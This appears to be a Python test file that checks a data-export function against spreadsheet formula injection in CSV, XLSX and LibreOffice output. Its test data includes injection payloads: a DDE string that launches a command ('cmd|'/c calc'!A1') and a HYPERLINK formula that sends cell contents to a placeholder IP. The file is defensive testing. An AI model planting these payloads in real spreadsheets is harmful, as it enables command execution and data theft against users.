"""No spreadsheet runs what a device says: by the bytes, by openpyxl, and by LibreOffice where it is."""

import csv
import io
import itertools
import re
import shutil
import subprocess
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from netraven_analytics.exports import export
from tests.battery.conftest import MakeTrial
from tests.battery.trials import LONG

TRIGGERS = ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
BEFORE = [
    "",
    " ",
    "  ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    "\u3000",
    "\xa0",
    "'",
    '"',
    "\ufeff",
    "\u200b",
    "\x0b",
    "\x0c",
]
BODIES = ["1+1", "cmd|'/c calc'!A1", 'HYPERLINK("http://192.0.2.1/?x="&A1,"x")', "SUM(1;2)", 'DDE("a";"b")']
TEXTS = [f"{before}{trigger}{body}" for before, trigger, body in itertools.product(BEFORE, TRIGGERS, BODIES)]
NUMBERS = [-1.5, -2.0, 3.25, -1e-6]
_LIVE = re.compile(
    '[\\s"\ufeff\u200b]*[=+\\-@\uff1d\uff0b\uff0d\uff20]'
)  # an apostrophe in front makes it text
_OFFICE = shutil.which("soffice")


def _table(texts: list[str]) -> pd.DataFrame:
    """The texts as cells, one as a header, and as an index with a name."""
    index = pd.Index(texts, name=texts[0] + "i", dtype="str")
    numbers = [NUMBERS[place % len(NUMBERS)] for place in range(len(texts))]
    return pd.DataFrame({texts[-1]: pd.Series(texts, index, dtype="str"), "n": pd.Series(numbers, index)})


def test_by_the_bytes(tmp_path: Path, trial: MakeTrial) -> None:
    """In CSV an apostrophe stands in front, taking one away gives back the text, and numbers are numbers."""
    runs = trial(
        "formulas in cells, headers and index of CSV", losing="live cells or texts", quick=5, long=30
    )
    for number in runs:
        part = TEXTS[number % 15 :: 15]
        text = export(_table(part), tmp_path / "a.csv").read_bytes().decode()
        rows = list(csv.reader(io.StringIO(text, newline="")))
        for row in rows:
            if any(_LIVE.match(cell) for cell in row[:2]):
                runs.lose(f"{row} is live")
        if rows[0][:2] != [_shown(part[0] + "i"), _shown(part[-1])]:
            runs.lose(f"the header {rows[0]}")
        for text, row in zip(part, rows[1:], strict=True):
            if {row[0].removeprefix("'"), row[1].removeprefix("'")} != {text}:
                runs.lose(f"{text!r} is {row}")
        if [float(row[2]) for row in rows[1:]] != _table(part)["n"].tolist():
            runs.lose("numbers")


def _shown(text: str) -> str:
    return f"'{text}" if text.startswith("'") or _LIVE.match(text) else text


def test_in_workbooks(tmp_path: Path, trial: MakeTrial) -> None:
    """In XLSX text is text and numbers are numbers: no cell is a formula or a link."""
    runs = trial("formulas in cells, headers and index of XLSX", losing="live cells", quick=3, long=15)
    for number in runs:
        path = export(_table(TEXTS[number % 15 :: 15]), tmp_path / "a.xlsx")
        sheet = openpyxl.load_workbook(path)["data"]
        for *texts, amount in sheet.iter_rows(min_row=2):
            if any(cell.data_type == "f" or cell.hyperlink for cell in texts) or amount.data_type != "n":
                runs.lose(f"row {texts[0].row}")


@pytest.mark.skipif(not LONG, reason="LibreOffice takes its time: it is asked in the long form")
@pytest.mark.skipif(_OFFICE is None, reason="LibreOffice is not here: install libreoffice-calc")
@pytest.mark.parametrize("ending", ["csv", "xlsx"])
def test_in_libreoffice(tmp_path: Path, trial: MakeTrial, ending: str) -> None:
    """LibreOffice, told to run formulas where it finds some, finds none, but in a file that keeps them."""
    runs = trial(f"formulas of {ending} opened by LibreOffice", losing="live cells", quick=1, long=2)
    for number in runs:
        if found := _formulas(export(_table(TEXTS[number::2]), tmp_path / f"a.{ending}")):
            runs.lose(f"{found} cells are formulas")
    kept = export(_table(["=1+1", "=2+2"]), tmp_path / "kept.csv", formulas="keep")
    assert _formulas(kept) > 0


def _formulas(path: Path) -> int:
    """How many cells LibreOffice takes for formulas."""
    command = [_OFFICE or "", f"-env:UserInstallation=file://{path.parent}/office", "--headless"]
    if path.suffix == ".csv":  # comma, quote, UTF-8, …, the last one: formulas are run
        command += ["--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true"]
    command += ["--convert-to", "fods", "--outdir", str(path.parent), str(path)]
    subprocess.run(command, check=True, capture_output=True, timeout=120)
    return path.with_suffix(".fods").read_text(encoding="utf-8").count("table:formula=")
